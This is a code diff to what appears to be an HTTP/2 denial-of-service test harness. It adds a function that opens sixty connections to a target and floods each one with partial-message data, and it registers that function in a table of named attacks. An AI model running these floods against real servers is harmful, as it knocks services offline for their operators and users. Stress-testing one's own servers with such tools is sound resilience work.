@@ -64,6 +64,21 @@ def half_messages(
             connection.pump(0 if moved else 0.02)
 
 
+def half_message_connections(target: str, connections: int = 60) -> None:
+    """Begin a message where no token is needed, on a connection of its own each."""
+    with contextlib.ExitStack() as stack:
+        made = [stack.enter_context(Http2Connection(target)) for _ in range(connections)]
+        piece = b"\0" * MIB
+        for connection in made:
+            connection.pump(1)
+            connection.send(connection.open(HEALTH_CHECK), message(b"", MOST))
+        until = time.monotonic() + 2
+        while time.monotonic() < until:
+            for connection in made:
+                connection.send(1, piece)
+                connection.pump()
+
+
 def full_windows(target: str, path: str = REGISTER, streams: int = 900) -> None:
     """Fill the window of many streams with the beginning of a message."""
     with _connected(target) as connection:
@@ -211,6 +226,7 @@ ATTACKS: Mapping[str, Attack] = {
     **{
         attack.__name__: quietly(attack)
         for attack in (
+            half_message_connections,
             lasting_streams,
             silent_connections,
             compressed_messages,
